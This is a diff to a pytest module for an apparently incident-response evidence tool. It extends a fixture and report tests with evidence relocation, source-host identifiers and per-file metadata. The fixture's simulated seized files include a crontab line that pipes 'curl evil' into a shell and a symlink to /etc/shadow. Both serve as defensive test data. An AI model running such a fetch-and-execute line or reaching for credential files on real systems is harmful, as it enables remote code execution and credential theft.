@@ -21,6 +21,7 @@ from irkit.backup import manifest as backupmanifest
 from irkit.backup import testrestore
 from irkit.evidence import custody
 from irkit.evidence.collect import collect
+from irkit.evidence.relocate import relocate
 from irkit.formats import redaction
 from irkit.formats.ed25519 import Signer, generate
 from irkit.incident import actions
@@ -41,9 +42,6 @@ _NEVER = {
     "prev",
     "witness_sig",  # a co-signature: checked by `irkit verify`, shown as "witnessed by NAME"
 }
-# per-file metadata of a collected item: the journal keeps it for `irkit evidence check`;
-# the reports show size, digests, path and modification time (custody form)
-_ITEM_META = {"mode", "uid", "gid", "ctime", "atime", "mtime", "what", "target", "stored"}
 
 
 def _clean(text: str) -> str:
@@ -83,23 +81,48 @@ def commitments(entries: list[Entry], text: str) -> list[str]:
 @pytest.fixture
 def everything(case: Case, alice: Signer, bob: Signer, tmp_path: Path) -> Case:
     """Every entry kind irkit writes, each optional field used at least once."""
+    return build_everything(case, alice, bob, tmp_path)
+
+
+def build_everything(case: Case, alice: Signer, bob: Signer, tmp_path: Path) -> Case:
+    """The `everything` case, for other test modules' own fixtures."""
     ck = FixedClock(datetime(2026, 5, 4, 7, 0, tzinfo=UTC), step=1800)
     carol = generate("Carol Auditor", "auditor")
-    add_member(case, alice, carol.public, name="Carol Auditor", role="auditor", clock=ck)
+    add_member(case, alice, carol.public, name="Carol Auditor", role="auditor",
+               contact="+44 20 7946 0958", clock=ck)  # fmt: skip
     actions.configure(case, alice, preset("itil3", "Europe/Berlin"), reason="desk opens", clock=ck)
     src = tmp_path / "seized"
     src.mkdir()
     (src / "auth.log").write_text("sshd: accepted key for root\n")
     (src / "crontab").write_text("* * * * * curl evil | sh\n")
+    (src / "shadow-link").symlink_to("/etc/shadow")  # met, recorded, not collected
     photo = tmp_path / "photo.jpg"
     photo.write_bytes(b"\xff\xd8 not really a jpeg")
     got = collect(
-        case, alice, [src], description="web-01 logs", location="rack 4", md5=True, clock=ck
+        case,
+        alice,
+        [src],
+        description="web-01 logs",
+        location="rack 4",
+        md5=True,
+        source_host="web-01.example",
+        serial="SN-4471-QX",
+        model="Dell PowerEdge R640",
+        macs=["00:1a:2b:3c:4d:5e", "00:1a:2b:3c:4d:5f"],
+        ips=["192.0.2.10", "2001:db8::10"],
+        clock=ck,
     )
+    assert got.body["skipped"] and got.body["source_host"] and got.body["source_mac"]
     ids = [i["id"] for i in got.body["items"]]
     ref = tmp_path / "huge-image.raw"
     ref.write_bytes(b"disk image")
-    collect(case, alice, [ref], description="by-reference image", by_reference=True, clock=ck)
+    by_ref = collect(
+        case, alice, [ref], description="by-reference image", by_reference=True, clock=ck
+    )
+    moved = tmp_path / "nas" / "huge-image.raw"
+    moved.parent.mkdir()
+    moved.write_bytes(ref.read_bytes())
+    relocate(case, alice, by_ref.body["items"][0]["id"], moved, reason="moved to NAS", clock=ck)
     collect(
         case,
         bob,
@@ -196,15 +219,15 @@ def _expected(e: Entry, zone: str) -> list[str]:
     """Each fact of one entry as the incident report must print it."""
     want = []
     for path, key, value in leaves(e.body):
-        if (
-            key in _NEVER
-            or key in _ITEM_META
-            or (e.kind.startswith("custody.") and key in ("to", "ok", "sha256", "witness"))
+        if key in _NEVER or (
+            e.kind.startswith("custody.") and key in ("to", "ok", "sha256", "witness")
         ):
             continue
         if isinstance(value, bool):
             continue  # booleans: flags, checked where they have a visible meaning
         text = "none" if value is None else str(value)
+        if e.kind == "evidence.collected" and key == "mode":
+            text = f"{value:04o}"  # permission bits, as `ls` and forms write them
         if isinstance(value, str) and re.match(r"^\d{4}-\d\d-\d\dT", text):
             text = human_time(text, zone)
         if e.kind.startswith(("incident.", "member.", "case.", "backup.", "report.")):
@@ -229,6 +252,7 @@ def test_incident_report_shows_every_recorded_fact(everything: Case) -> None:
         "incident.informed",
         "incident.followup",
         "incident.consent",
+        "evidence.relocated",
     } <= kinds
     for e in entries:
         for fact in _expected(e, model.zone):
@@ -266,6 +290,24 @@ def test_other_templates_say_what_they_leave_out(everything: Case, template: str
         model = build(entries)
         for form in model.custody:
             assert form.item.sha256 in flat and _clean(form.item.path) in flat
+        for e in entries:  # every per-file field the journal records, on the item's form
+            if e.kind == "evidence.relocated":
+                assert _clean(f"{e.body['path']} on {e.body['host']} (#{e.seq}") in flat
+            if e.kind != "evidence.collected":
+                continue
+            for item in e.body["items"]:
+                for key in ("mtime", "ctime", "atime"):
+                    assert _clean(human_time(item[key], model.zone)) in flat, (item["id"], key)
+                assert f"mode{item['mode']:04o},uid{item['uid']},gid{item['gid']}" in flat
+            # the source's identifiers (every source_* field, derived from the body), each
+            # in its own row of the item's form
+            labels = {"source_host": "Sourcehost", "source_serial": "Serialno.",
+                      "source_model": "Model", "source_mac": "MACaddresses",
+                      "source_ip": "IPaddresses"}  # fmt: skip
+            for path, key, value in leaves(e.body):
+                if key.startswith("source_"):
+                    assert labels[key] + _clean(str(value)) in flat, (e.seq, path)
+            # a handler's contact on the forms: tests/unit/test_report_identity.py
             for v in form.events:
                 assert _clean(v.at) in flat and _clean(v.purpose) in flat
 
@@ -308,7 +350,7 @@ def test_an_entry_without_salt_shows_no_digest() -> None:
 
 
 def test_appendix_recipe_is_the_documented_one() -> None:
-    from irkit.report.render import VERIFY_RECIPE
+    from irkit.report.sections.closing import VERIFY_RECIPE
 
     doc = (Path(__file__).parents[2] / "docs" / "FORMAT.md").read_text()
     block = doc.split("<!-- recipe:verify-entry -->\n```sh\n")[1].split("```\n<!-- /recipe")[0]
